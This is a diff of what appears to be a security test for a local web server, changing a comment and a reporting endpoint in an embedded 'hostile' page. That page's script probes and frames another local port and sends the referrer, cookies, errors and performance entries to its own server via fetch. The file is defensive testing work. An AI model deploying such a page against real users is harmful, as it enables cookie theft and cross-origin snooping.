@@ -24,7 +24,7 @@ PATHS = ("/", "/sessions", "/s/shop", "/s/shop/state", "/s/shop/rows", "/find?q=
 ORIGINS: Final[tuple[dict[str, str], ...]] = ({}, {"Sec-Fetch-Site": "same-origin"})
 BIG_COOKIES, MANY_COOKIES = 40, 400
 
-# The page asks and frames the other port as well as a page can, and tells its server all that it sees.
+# The page asks and frames the other port as well as a page can, and reports to its server all that it sees.
 PAGE = b"""<!doctype html><meta charset="utf-8"><title>hostile</title><script>
 (async () => {
   const port = new URLSearchParams(location.search).get("port"), seen = [document.referrer, document.cookie];
@@ -47,7 +47,7 @@ PAGE = b"""<!doctype html><meta charset="utf-8"><title>hostile</title><script>
     } catch (error) { seen.push(`${error}`); }
   }
   for (const entry of performance.getEntries()) seen.push(entry.name, JSON.stringify(entry));
-  await fetch("/told?" + encodeURIComponent(JSON.stringify(seen)).slice(0, 50000));
+  await fetch("/seen?" + encodeURIComponent(JSON.stringify(seen)).slice(0, 50000));
   document.title = "done";
 })();
 </script>"""
